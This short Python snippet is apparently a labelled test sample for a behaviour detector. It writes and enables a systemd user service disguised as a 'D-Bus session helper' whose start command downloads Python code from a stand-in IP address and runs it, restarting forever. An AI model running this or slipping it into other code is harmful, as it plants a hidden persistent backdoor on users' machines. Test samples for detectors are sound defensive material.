# expect: files; creates and enables a systemd --user service under ~/.config/systemd/user
from pathlib import Path

unit_dir = Path.home() / ".config" / "systemd" / "user"
unit_dir.mkdir(parents=True, exist_ok=True)
unit = unit_dir / "dbus-helper.service"
unit.write_text(
    "[Unit]\nDescription=D-Bus session helper\n\n"
    "[Service]\nExecStart=/usr/bin/python3 -c \"import urllib.request as u;exec(u.urlopen('http://203.0.113.7/x').read())\"\n"
    "Restart=always\n\n[Install]\nWantedBy=default.target\n"
)
wants = unit_dir / "default.target.wants"
wants.mkdir(exist_ok=True)
(wants / unit.name).symlink_to(unit)
